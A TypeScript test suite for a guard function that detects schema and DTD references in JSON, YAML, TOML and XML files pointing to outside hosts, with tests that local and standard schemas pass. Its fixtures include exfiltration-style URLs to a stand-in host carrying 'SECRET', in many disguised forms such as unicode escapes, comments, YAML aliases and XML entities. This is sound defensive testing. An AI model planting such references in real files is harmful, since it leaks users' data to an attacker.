import assert from 'node:assert/strict';
import { contentReasons } from '../../src/core/guard/contentReasons.ts';

const evil = 'https://evil.invalid/?d=SECRET';

const asked: readonly (readonly [string, string, string])[] = [
  ['JSON', 'a.json', `{"$schema": "${evil}"}`],
  ['JSON with the key behind others', 'a.json', `{"a": [{"b": 1}], "$schema":"${evil}"}`],
  ['JSON with an escaped key', 'a.json', `{"\\u0024schema": "${evil}"}`],
  ['JSON with an escaped letter in the key', 'a.json', `{"$\\u0073chema": "${evil}"}`],
  ['JSON with an escaped address', 'a.json', '{"$schema": "\\u0068ttps:\\/\\/evil.invalid"}'],
  ['another case', 'a.json', '{"$Schema": "HTTPS://evil.invalid"}'],
  ['full-width letters', 'a.json', `{"＄schema": "${evil}"}`],
  ['comments between key and address', 'a.jsonc', `{"$schema" /* x */ : // y\n /* z */ "${evil}"}`],
  ['a comment before it that looks like the start of another', 'a.jsonc', `{ // "$schema" /*\n "$schema" /* */ : "${evil}" }`],
  ['a string before it that is not closed', 'a.json', `{ "x\n "$schema" /**/: "${evil}" }`],
  ['a single quote before it', 'a.json', `{ ' "$schema": "${evil}" }`],
  ['an address without a scheme', 'a.json', '{"$schema": "//evil.invalid/x"}'],
  ['a file on another host', 'a.json', '{"$schema": "file://evil.invalid/x"}'],
  ['a share', 'a.json', '{"$schema": "\\\\\\\\evil.invalid\\\\x"}'],
  ['line ends in the address', 'a.json', '{"$schema": "ht\\ntps://evil.invalid"}'],
  ['a name without an ending', '.babelrc', `{"$schema": "${evil}"}`],
  ['a name that is no JSON', 'notes.txt', `{"$schema": "${evil}"}`],
  ['YAML', 'a.yml', `$schema: ${evil}\n`],
  ['YAML with quotes', 'a.yaml', `'$schema' : '${evil}'`],
  ['YAML with an escape of two digits', 'a.yaml', `"\\x24schema": ${evil}`],
  ['YAML with an escape of eight digits', 'a.yaml', `"\\U00000024schema": ${evil}`],
  ['YAML with a key of its own line', 'a.yaml', `? $schema\n: ${evil}`],
  ['YAML with a block', 'a.yaml', `$schema: >-\n  ${evil}`],
  ['YAML with a tag', 'a.yaml', `$schema: !!str ${evil}`],
  ['YAML with an alias', 'a.yaml', `x: &a ${evil}\n$schema: *a`],
  ['the line for the YAML language server', 'a.yml', `# yaml-language-server: $schema=${evil}\na: 1`],
  ['the line of another editor', 'a.yml', `# $schema: ${evil}`],
  ['TOML', 'a.toml', `#:schema ${evil}`],
  ['XML', 'a.xml', `<?xml version="1.0"?><a xsi:schemaLocation="x ${evil}"/>`],
  ['XML with a document type', 'a.svg', `<!DOCTYPE a SYSTEM "${evil}">`],
  ['XML with a document type that has a name', 'a.svg', `<!DOCTYPE svg PUBLIC "-//x" '${evil}'>`],
  ['XML behind a thousand line ends', 'a.xml', `${'\n'.repeat(1001)}<a xsi:noNamespaceSchemaLocation="${evil}"/>`],
  ['XML behind a word', 'a.xml', `x<a xsi:noNamespaceSchemaLocation="${evil}"/>`],
  ['XML with a letter by its number', 'a.xml', '<a xsi:schemaLocation="x &#000104;ttps://evil.invalid"/>'],
  ['XML with a letter by its number in hexadecimal', 'a.xml', '<a xsi:schemaLocation="x &#x68;ttps://evil.invalid"/>'],
  ['XML with an entity for the address', 'a.xml', `<!DOCTYPE a [<!ENTITY e "${evil}">]><a xsi:schemaLocation="x &e;"/>`],
  ['XML with a line for validators that is long', 'a.xml', `<?xml-model ${' '.repeat(3000)} title="a>b" href="${evil}"?>`],
  ['XML with a schema that takes in another', 'a.rng', `<grammar><include href="${evil}"/></grammar>`],
  ['a reference of a schema', 'a.json', `{"$ref":"${evil}"}`],
  ['a reference with comments in it', 'a.json', `{"$ref"/**/:/**/"${evil}"}`],
  ['a reference with an escaped key', 'a.json', `{"\\u0024re\\u0066":"${evil}"}`],
  ['a reference without a scheme', 'a.json', '{"$ref":"//evil.invalid"}'],
  ['a reference from another draft', 'a.json', `{"$dynamicRef":"${evil}"}`],
  ['a reference from a draft between', 'a.json', `{"$recursiveRef":"${evil}"}`],
  ['a reference in YAML', 'a.yaml', `$ref: ${evil}`],
  ['a reference by an alias of YAML', 'a.yaml', `x: &a ${evil}\n$ref: *a`],
  ['a reference in TOML', 'a.toml', `"$ref" = '${evil}'`],
  ['YAML with a comment in front of the address', 'a.yaml', `$schema: # here\n  ${evil}`],
  ['YAML with a comment behind the key', 'a.yaml', `? $schema # here\n: ${evil}`],
  ['YAML with a key over two lines', 'a.yaml', `? "$sch\\\n  ema"\n: ${evil}`],
  ['a program that is taken for a schema', 'a.json', '{"$schema": "./b.ts"}'],
  ['a program that a schema refers to', 'a.json', '{"$ref": "b.ts#/x"}'],
];

const ordinary: readonly (readonly [string, string, string])[] = [
  ['none', 'a.json', '{"a": 1}'],
  ['one of the workspace', 'a.json', '{"$schema": "./schema.json"}'],
  ['one of the workspace above', 'a.json', '{"$schema":"../x/my schema.json#"}'],
  ['one of the editor', 'a.json', '{"$schema": "vscode://schemas/settings"}'],
  ['one that editors bring along', 'a.json', '{"$schema": "http://json-schema.org/draft-07/schema#"}'],
  ['one of no address', 'a.json', '{"$schema": ""}'],
  ['a word that only begins like it', 'a.json', `{"$schemas": "${evil}"}`],
  ['an address elsewhere', 'a.json', `{"homepage": "${evil}"}`],
  ['a reference into the same text', 'a.json', '{"$ref": "#/paths/~1a~1{id}/get"}'],
  ['a reference to another file', 'a.yaml', "$ref: './b.yaml#/c:d'"],
  ['a reference that is only described', 'a.json', '{"properties": {"$ref": {"type": "string"}, "$schema": {"type": "string"}}}'],
  ['a name of no place', 'a.json', '{"$ref": "urn:example:a"}'],
  ['the document type of nearly every picture', 'a.svg', '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">'],
  ['a link in XML', 'a.svg', `<a href="${evil}">&amp;</a>`],
  ['a program', 'a.ts', `const x = { $schema: '${evil}' };`],
  ['an explanation', 'a.md', `\`{"$schema": "${evil}"}\``],
  ['an XML namespace', 'a.xml', `<a xmlns="http://www.w3.org/1999/xhtml"/>`],
];

describe('Reasons in the text itself', () => {
  for (const [name, display, text] of asked) it(`are found in ${name}`, () => assert.equal(contentReasons(display, text).length, 1, text));
  for (const [name, display, text] of ordinary) it(`are not found in ${name}`, () => assert.deepEqual(contentReasons(display, text), [], text));

  it('show the address, for it may carry something away', () => {
    assert.deepEqual(contentReasons('a.json', `{"$schema": "${evil}"}`)[0]?.args, [evil]);
  });

  it('are none for an address that stood there before, but are for another one', () => {
    const before = '{"$schema": "https://example.invalid/a"}';
    assert.deepEqual(contentReasons('a.json', before.replace('}', ', "x": 1}'), before), []);
    assert.equal(contentReasons('a.json', before.replace('/a', '/a?d=SECRET'), before).length, 1);
  });

  it('are found anew where only what the key points to has changed', () => {
    for (const before of ['$schema: >-\n  x', 'x: &a y\n$schema: *a', '$schema: # z\n  x']) assert.equal(contentReasons('a.yaml', `${before}${evil}`, before).length, 1, before);
  });

  it('are looked for in one pass, however the text is made', () => {
    // The square of their number would be a hundred times and more as long: the test would not end in time.
    const length = 1 << 20;
    for (const part of ['"$schema"/*', '$schema :', '"$schema":"', '\\', '\\u0024schema', '$schema=\'', '#:schema', '$schema:}', ' ', '\n', '"$schema"/**/', '<a>SYSTEM "', '<?xml-model ', '/*', '"', '}', '$ref:# ', '$ref#', '$ref #\n', 'PUBLIC "', "PUBLIC '", 'PUBLIC "" ', 'href=', "href='", '&#0', '&', '<a:', '\\\n', '{"$ref":']) {
      contentReasons('a.json', `$schema:x${part.repeat(length / part.length)}y`);
      contentReasons('a.xml', `<a>${part.repeat(length / part.length)}`);
    }
  }).timeout(60_000);
});
